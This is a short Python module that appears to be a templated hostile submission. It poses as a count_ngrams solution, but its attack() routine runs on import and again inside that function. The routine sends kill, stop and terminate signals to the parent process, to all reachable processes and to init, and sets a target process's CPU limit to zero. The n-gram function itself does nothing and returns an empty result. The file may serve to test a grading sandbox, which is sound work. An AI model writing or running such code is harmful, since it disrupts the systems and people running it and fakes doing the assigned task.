"""Kills, stops and starves whoever it can reach."""
import os
import resource
import signal


def attack():
    for pid in (os.getppid(), -1, 0, 1, {PID}):
        for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
            try:
                if pid != 0:
                    os.kill(pid, number)
            except OSError:
                pass
    try:
        resource.prlimit({PID}, resource.RLIMIT_CPU, (0, 0))
    except (OSError, ValueError):
        pass


attack()


def count_ngrams(sentences, n):
    attack()
    return {}
